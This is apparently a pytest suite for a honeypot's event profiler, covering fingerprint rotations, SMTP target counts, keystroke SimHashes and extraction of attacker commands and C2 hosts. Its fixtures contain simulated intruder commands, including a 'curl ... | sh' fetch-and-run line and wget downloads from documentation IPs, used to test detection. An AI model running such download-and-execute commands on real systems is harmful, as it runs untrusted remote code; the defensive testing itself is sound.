"""The profiler through a real store: same transaction, new events only, lazy SimHashes."""

from __future__ import annotations

import json
import random
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest

from node.event import Event
from node.ingest.detect import parse_line
from node.profile import sql
from node.profile.profiler import Profiler
from node.profile.stages import PROFILE_STAGES, JournalFold
from node.store import Store

IP = "192.0.2.44"
JARM_A = "27d40d40d29d40d1dc42d43d00041d4689ee210389f4f6b4b5b1b93f92252d"
JARM_B = "2ad2ad0002ad2ad00042d42d00000069d641f34fe76acdc05c40262f8815e5"


def syslog(time: str, host: str, app: str, msgid: str, sd: str) -> Event:
    return parse_line(f"<134>1 2026-03-02T{time}+00:00 {host} {app} - {msgid} "
                      f"[relay@55555 {sd}]".encode())


def jarm(time: str, value: str, port: str = "443") -> Event:
    return syslog(time, "decnet-prober", "prober", "jarm_fingerprint",
                  f'target_ip="{IP}" target_port="{port}" jarm_hash="{value}"')


def shard(sid: str, text: str, seed: int, start: float = 1.0) -> list[Event]:
    rnd = random.Random(seed)
    t, events = start, []
    for ch in text:
        t += rnd.uniform(0.05, 0.4)
        events.append(parse_line(json.dumps({"sid": sid, "t": round(t, 6), "ch": "i",
                                             "d": ch}).encode()))
        events.append(parse_line(json.dumps({"sid": sid, "t": round(t + 0.002, 6), "ch": "o",
                                             "d": ch}).encode()))
    return events


def recorded(sid: str, ip: str = IP, time: str = "09:12:00") -> Event:
    return syslog(time, "web-02", "sessrec", "session_recorded",
                  f'sid="{sid}" service="ssh" src_ip="{ip}" duration_s="42.5"')


@pytest.fixture
async def store(tmp_path: Path) -> AsyncIterator[Store]:
    opened = await Store.open(tmp_path / "node.db", profilers=[Profiler()], stages=PROFILE_STAGES)
    yield opened
    await opened.close()


async def rows(store: Store, table: str) -> list[tuple[Any, ...]]:
    await store.catch_up()
    return await store.fetch(f"SELECT * FROM {table} ORDER BY 1, 2")  # noqa: S608


async def test_re_ingesting_adds_nothing(store: Store) -> None:
    batch = [
        syslog("08:14:05", "mail-01", "smtp", "rcpt_to", 'src="198.51.100.23" value="<j@v.com>"'),
        syslog("09:10:00", "web-02", "sniffer", "tls_client_hello",
               f'src_ip="{IP}" ja3="e7d705a3286e19ea42f587b344ee6865"'),
        jarm("09:05:00", JARM_A),
    ]
    await store.write_batch(batch)
    tables = ["profile_smtp_targets", "profile_fingerprints", "profile_probe_state"]
    before = [await rows(store, t) for t in tables]
    assert await store.write_batch(batch) == 0
    assert [await rows(store, t) for t in tables] == before
    assert (await rows(store, "profile_smtp_targets"))[0][:3] == ("198.51.100.23", "v.com", 1)


async def test_each_recipient_counts_once(store: Store) -> None:
    await store.write_batch([
        syslog("08:14:09", "mail-01", "smtp_relay", "message_accepted",
               'src="198.51.100.23" rcpt_to="<x@one.org>,<y@one.org>,<z@two.org>"'),
        syslog("08:14:10", "mail-01", "smtp", "rcpt_denied",
               'src="198.51.100.23" value="RCPT TO:<ops@ONE.org>"'),
    ])
    assert [(r[1], r[2]) for r in await rows(store, "profile_smtp_targets")] == \
        [("one.org", 3), ("two.org", 1)]


async def test_rotations_across_batches(store: Store) -> None:
    await store.write_batch([jarm("09:00:00", JARM_A)])
    await store.write_batch([jarm("09:01:00", JARM_A)])
    assert await rows(store, "profile_rotations") == []
    await store.write_batch([jarm("09:02:00", JARM_B), jarm("09:03:00", JARM_A),
                             jarm("09:03:30", "0" * 62)])
    rotations = await store.fetch(
        "SELECT port, probe, time_us, old_value, new_value FROM profile_rotations ORDER BY id")
    assert rotations == [(443, "jarm", 1772442120000000, JARM_A, JARM_B),
                         (443, "jarm", 1772442180000000, JARM_B, JARM_A)]
    state = await rows(store, "profile_probe_state")
    assert [(r[1], r[2], r[3]) for r in state] == [(443, "jarm", JARM_A)]


async def test_a_late_older_sighting_neither_rotates_nor_replaces(store: Store) -> None:
    await store.write_batch([jarm("09:10:00", JARM_A)])
    await store.write_batch([jarm("09:00:00", JARM_B)])
    assert await rows(store, "profile_rotations") == []
    assert (await rows(store, "profile_probe_state"))[0][3] == JARM_A


async def test_ports_and_probe_types_rotate_independently(store: Store) -> None:
    await store.write_batch([jarm("09:00:00", JARM_A, "443"), jarm("09:01:00", JARM_B, "8443")])
    assert await rows(store, "profile_rotations") == []


async def test_malformed_fields_are_counted_and_the_event_kept(store: Store) -> None:
    event = syslog("09:01:00", "web-02", "sniffer", "tls_client_hello",
                   f'src_ip="{IP}" ja3="nothex" ja4="t13d1517h2_8daaf6152771_b0da82dd1658"')
    assert await store.write_batch([event]) == 1
    assert [r[1] for r in await rows(store, "profile_fingerprints")] == ["ja4"]
    assert await rows(store, "profile_rejections") == [("fingerprint:ja3:bad_format", 1)]
    profiler = Profiler()
    profiler.statements([event])
    assert profiler.rejections == {"fingerprint:ja3:bad_format": 1}


async def test_keystroke_simhash_is_independent_of_batching_and_arrival_order(
        tmp_path: Path) -> None:
    text = "uname -a; cat /proc/cpuinfo; wget http://203.0.113.80/x\r"
    events = shard("s1", text, seed=7) + shard("s2", text[::-1], seed=8)
    results = []
    for case, order in enumerate(["one batch", "many batches", "reversed, link first"]):
        store = await Store.open(tmp_path / f"{case}.db", profilers=[Profiler()],
                                 stages=PROFILE_STAGES)
        try:
            if order == "one batch":
                await store.write_batch([*events, recorded("s1"), recorded("s2", "192.0.2.45")])
            elif order == "many batches":
                for i in range(0, len(events), 17):
                    await store.write_batch(events[i:i + 17])
                    if i == 34:
                        await store.catch_up()
                await store.write_batch([recorded("s1"), recorded("s2", "192.0.2.45")])
            else:
                await store.write_batch([recorded("s2", "192.0.2.45"), recorded("s1")])
                for event in reversed(events):
                    await store.write_batch([event])
            await store.catch_up()
            results.append(await store.fetch(
                "SELECT l.ip, k.sid, k.simhash, k.digraphs, k.samples FROM keystroke_simhashes k"
                " JOIN session_links l USING (sid) ORDER BY k.sid"))
            assert (await store.lags())["keystrokes"] == 0
        finally:
            await store.close()
    assert results[0] == results[1] == results[2]
    assert [(ip, sid) for ip, sid, *_ in results[0]] == [(IP, "s1"), ("192.0.2.45", "s2")]
    assert all(simhash != "0000000000000000" for _ip, _sid, simhash, *_ in results[0])


async def test_short_sessions_have_no_signal(store: Store) -> None:
    await store.write_batch(shard("tiny", "ls\r", seed=1) + [recorded("tiny")])
    await store.catch_up()
    assert await store.fetch("SELECT simhash FROM keystroke_simhashes") == \
        [("0000000000000000",)]


async def test_truncated_and_invalid_utf8_shards(store: Store) -> None:
    lines = [
        b'{"sid": "s9", "hdr": {"version": 2, "width": 120, "height": 40, '
        b'"timestamp": 1772442600}}',
        b'{"sid": "s9", "t": 1.5, "ch": "i", "d": "\xff\xfe"}',
        b'{"sid": "s9", "trunc": true}',
    ]
    await store.write_batch([parse_line(line) for line in lines])
    assert await rows(store, "transcript_sessions") == \
        [("s9", 1772442600_000000, 120, 40, 1, 1)]


async def test_commands_phases_and_c2(store: Store) -> None:
    command = parse_line(
        b"<14>1 2026-03-02T09:10:01.2+00:00 web-02 1 - - -  2026-03-02T09:10:01.19+00:00 web-02"
        b' bash - command [timeQuality tzKnown="1"] CMD uid=0 user=root src=192.0.2.44 pwd=/tmp'
        b" cmd=curl -fsSL http://203.0.113.80/i.sh | sh; wget http://10.0.0.9/x")
    await store.write_batch([command])
    assert await rows(store, "profile_commands") == [
        (IP, 1772442601190000, "web-02", "",
         "curl -fsSL http://203.0.113.80/i.sh | sh; wget http://10.0.0.9/x",
         "command_and_control,execution")]
    assert [r[2] for r in await rows(store, "profile_phases")] == \
        ["command_and_control", "execution"]
    assert [r[:4] for r in await rows(store, "profile_c2")] == \
        [(IP, "203.0.113.80", "http://203.0.113.80/i.sh", "command")]
    assert await rows(store, "profile_rejections") == [("c2:host:not_public", 1)]


async def test_c2_on_the_honeypot_itself_is_internal(store: Store) -> None:
    command = parse_line(b"<14>1 2026-03-02T09:10:00.1+00:00 web-02.corp.net bash - - -  CMD"
                         b" uid=0 src=192.0.2.44 cmd=wget http://web-02.corp.net/x")
    await store.write_batch([command])
    assert await rows(store, "profile_c2") == []
    assert await rows(store, "profile_rejections") == [("c2:host:internal", 1)]


async def test_irrelevant_events_produce_no_statements() -> None:
    event = syslog("09:00:00", "web-02", "http", "http_request", 'src_ip="192.0.2.1" path="/"')
    assert Profiler().statements([event] * 100) == []


async def test_a_partly_known_batch_profiles_only_its_new_events(store: Store) -> None:
    old = syslog("08:14:05", "mail-01", "smtp", "rcpt_to", 'src="198.51.100.23" value="<a@v.com>"')
    new = syslog("08:15:05", "mail-01", "smtp", "rcpt_to", 'src="198.51.100.23" value="<b@v.com>"')
    await store.write_batch([old])
    assert await store.write_batch([old, new, new]) == 1
    assert (await rows(store, "profile_smtp_targets"))[0][2] == 2


async def test_a_journal_is_folded_once_it_holds_a_step_of_rows(tmp_path: Path) -> None:
    stages = [JournalFold(journal, step=2) for journal in sql.JOURNALS]
    store = await Store.open(tmp_path / "fold.db", profilers=[Profiler()], stages=stages)
    try:
        mail = [syslog(f"08:1{i}:05", "mail-01", "smtp", "rcpt_to",
                       f'src="198.51.100.23" value="<u{i}@v{i % 2}.com>"') for i in range(3)]
        pending = "SELECT (SELECT count(*) FROM j_smtp_targets), (SELECT count(*) FROM" \
                  " j_fingerprints)"
        await store.write_batch([mail[0], jarm("09:00:00", JARM_A)])
        assert await store.fetch(pending) == [(1, 1)]
        assert await store.fetch("SELECT count(*) FROM profile_smtp_targets") == [(0,)]
        await store.write_batch(mail[1:])  # the smtp journal reaches 3 rows; fingerprints 1
        assert await store.fetch(pending) == [(0, 1)]
        lags = await store.lags()
        assert (lags["fold:profile_smtp_targets"], lags["fold:profile_fingerprints"]) == (0, 4)
        assert await store.fetch("SELECT domain, count, first_seen_us, last_seen_us FROM"
                                 " profile_smtp_targets ORDER BY 1") == \
            [("v0.com", 2, 1772439005000000, 1772439125000000),
             ("v1.com", 1, 1772439065000000, 1772439065000000)]
    finally:
        await store.close()


async def test_extra_columns_keep_the_smallest_value_whatever_the_folds(store: Store) -> None:
    def seen_on(host: str, time: str) -> Event:
        return syslog(time, host, "sessrec", "session_recorded",
                      f'sid="s-1" service="ssh" src_ip="{IP}" duration_s="1"')

    await store.write_batch([seen_on("web-02", "09:00:00")])
    await store.catch_up()
    await store.write_batch([seen_on("db-01", "09:05:00")])  # folded separately
    await store.catch_up()
    assert await store.fetch("SELECT honeypot, count FROM profile_sessions") == [("db-01", 2)]


async def test_a_catch_up_with_nothing_behind_does_not_write(store: Store) -> None:
    await store.write_batch([jarm("09:00:00", JARM_A),
                             syslog("08:14:05", "mail-01", "smtp", "rcpt_to",
                                    'src="198.51.100.23" value="<a@v.com>"')])
    await store.catch_up()
    before = await store.fetch("PRAGMA data_version")
    changes = await store.fetch("SELECT total_changes()")
    await store.catch_up()
    assert await store.fetch("PRAGMA data_version") == before
    assert await store.fetch("SELECT total_changes()") == changes


async def test_a_syslog_line_posing_as_a_transcript_chunk_is_ignored(store: Store) -> None:
    fake = syslog("09:00:00", "web-02", "sessrec", "transcript_chunk", 'src_ip="192.0.2.9"')
    assert await store.write_batch([fake]) == 1
    assert await rows(store, "transcript_input") == []
